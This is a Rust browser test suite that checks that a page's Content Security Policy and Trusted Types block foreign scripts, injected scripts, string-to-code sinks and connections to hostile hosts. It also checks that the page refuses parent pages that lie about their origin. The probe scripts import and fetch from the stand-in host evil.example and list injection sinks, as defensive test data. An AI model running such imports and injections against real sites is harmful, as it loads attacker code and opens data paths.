//! What the page may do, and with whom it talks.

use anyhow::{Result, ensure};
use e2e::{Card, Stage, journey};
use sandbox::story;

/// A script of another host, by the one way that needs no element: the policy has to stop it before it is asked for.
const IMPORT: &str = "\
    const done = arguments[arguments.length - 1];
    document.addEventListener('securitypolicyviolation', report => done(report.effectiveDirective), { once: true });
    import('https://evil.example/a.js').then(() => done('ran'), () => {});";

/// A script that stands in the page without being one of the page's.
const INJECT: &str = "\
    const script = document.createElement('script');
    script.append('document.documentElement.dataset.injected = \"yes\"');
    document.head.append(script);
    return document.documentElement.dataset.injected ?? 'no';";

/// What makes of a text something that runs: elements, a script, an address of one, and a rule that lets them pass.
const SINKS: &str = "\
    const sinks = {
        elements: () => document.createElement('div').innerHTML = '<b></b>',
        insertion: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
        document: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
        script: () => document.createElement('script').text = '0',
        address: () => document.createElement('script').src = '/a.js',
        timer: () => setTimeout('0'),
        rule: () => trustedTypes.createPolicy('any', { createHTML: text => text }),
        default_rule: () => trustedTypes.createPolicy('default', { createHTML: text => text }),
    };
    const passes = sink => { try { sinks[sink](); return true; } catch { return false; } };
    return Object.keys(sinks).filter(passes);";

/// An address that nothing answers: the policy has to stop the request before it is one.
const CONNECT: &str = "\
    const done = arguments[arguments.length - 1];
    document.addEventListener('securitypolicyviolation', report => done(report.effectiveDirective), { once: true });
    fetch(arguments[0]).then(() => done('sent'), () => {});";

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_stops_a_foreign_script_and_a_foreign_host() -> Result<()> {
    journey("policy", async |stage| {
        stage.expect_in_console("Content Security Policy");
        stage.expect_in_console("Refused to connect");
        stage.portal.app_page().await?;
        no_foreign_script(stage).await?;
        no_connection(stage, "https://evil.example/").await
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_of_a_card_stops_a_foreign_script_and_a_foreign_host() -> Result<()> {
    journey("policy-card", async |stage| {
        stage.expect_in_console("Content Security Policy");
        stage.expect_in_console("Refused to connect");
        stage.portal.card(Card::Contact(story::CARD_CONTACT)).await?;
        no_foreign_script(stage).await?;
        no_connection(stage, "https://evil.example/").await
    })
    .await
}

/// The page of its own lets a person choose any portal over https, and nothing else.
#[tokio::test(flavor = "multi_thread")]
async fn the_policy_of_the_plain_page_stops_a_foreign_script_and_an_open_line() -> Result<()> {
    journey("policy-page", async |stage| {
        stage.expect_in_console("Content Security Policy");
        stage.expect_in_console("Refused to connect");
        stage.plain_page().await?;
        no_foreign_script(stage).await?;
        no_connection(stage, "http://evil.example/").await
    })
    .await
}

async fn no_foreign_script(stage: &Stage) -> Result<()> {
    let stopped = stage.browser.driver().execute_async(IMPORT, vec![]).await?;
    ensure!(stopped.json() == "script-src-elem", "{:?}", stopped.json());
    stage.expect_in_console("TrustedHTML");
    stage.expect_in_console("TrustedScript");
    stage.expect_in_console("TrustedTypePolicy");
    let passing: Vec<String> = stage.browser.script(SINKS, vec![]).await?;
    ensure!(passing.is_empty(), "a text becomes code by {passing:?}");
    let injected: String = stage.browser.script(INJECT, vec![]).await?;
    ensure!(injected == "no", "a foreign script ran");
    Ok(())
}

async fn no_connection(stage: &Stage, address: &str) -> Result<()> {
    let stopped = stage.browser.driver().execute_async(CONNECT, vec![address.into()]).await?;
    ensure!(stopped.json() == "connect-src", "{:?}", stopped.json());
    Ok(())
}

/// What a page around the frame may claim or answer that no careful application believes.
const LIES: [&str; 12] = [
    "foreign-host",
    "insecure-host",
    "wrong-origin",
    "host-mismatch",
    "sid-mismatch",
    "no-name",
    "domain-mismatch",
    "protocol-mismatch",
    "broken-json",
    "wrong-shape",
    "no-token",
    "huge",
];

/// What stands around the true answer and must not matter.
const NOISE: [&str; 4] = ["not-text", "unknown-id", "reply-twice", "sibling"];

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_lies_about_the_portal_is_refused() -> Result<()> {
    journey("policy-refused", async |stage| {
        // A message that was meant for another origin than the page has.
        stage.expect_in_console("Failed to execute 'postMessage'");
        for lie in LIES {
            let before = stage.requests();
            stage.portal.open(&format!("/_sandbox/hostile/{lie}/")).await?;
            let widget = stage.portal.enter_widget().await?;
            let shown = widget.until(lie, |shown| shown.screen.as_deref() == Some("refused")).await?;
            ensure!(!shown.notices.is_empty(), "{lie}: {shown:?}");
            ensure!(stage.requests() == before, "{lie}: something was sent");
            stage.state(&format!("refused-{lie}")).await?;
        }
        Ok(())
    })
    .await
}

/// In every document from now on, waits of more than a second last until the journey lets them pass.
pub(crate) const STOP_TIME: &str = "\
    {
        const soon = setTimeout;
        const stop = clearTimeout;
        const kept = new Map();
        let last = 0;
        const keep = work => (kept.set(--last, work), last);
        window.setTimeout = (work, wait) => wait > 1000 ? keep(work) : soon(work, wait);
        window.clearTimeout = id => kept.delete(id) || stop(id);
        window.letTimePass = () => {
            const due = [...kept.values()];
            kept.clear();
            due.forEach(work => work());
        };
    }";

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_never_answers_is_not_waited_for_in_vain() -> Result<()> {
    journey("policy-silence", async |stage| {
        stage.browser.before_documents(STOP_TIME).await?;
        stage.portal.open("/_sandbox/hostile/silence/").await?;
        let widget = stage.portal.enter_widget().await?;
        let shown = widget.until("waiting", |shown| shown.screen.as_deref() == Some("connecting")).await?;
        ensure!(shown.all_ids().is_empty(), "{shown:?}");
        stage.state("connecting").await?;
        stage.browser.script::<bool>("letTimePass(); return true;", vec![]).await?;
        let shown = widget.until("a refusal", |shown| shown.screen.as_deref() == Some("refused")).await?;
        ensure!(!shown.notices.is_empty(), "{shown:?}");
        stage.state("refused-silence").await
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn noise_around_the_true_answer_does_not_matter() -> Result<()> {
    journey("policy-noise", async |stage| {
        for noise in NOISE {
            stage.portal.open(&format!("/_sandbox/hostile/{noise}/")).await?;
            let shown = stage.portal.enter_widget().await?.until_state("card", "done").await?;
            ensure!(shown.all_ids().len() == 3, "{noise}: {shown:?}");
        }
        Ok(())
    })
    .await
}
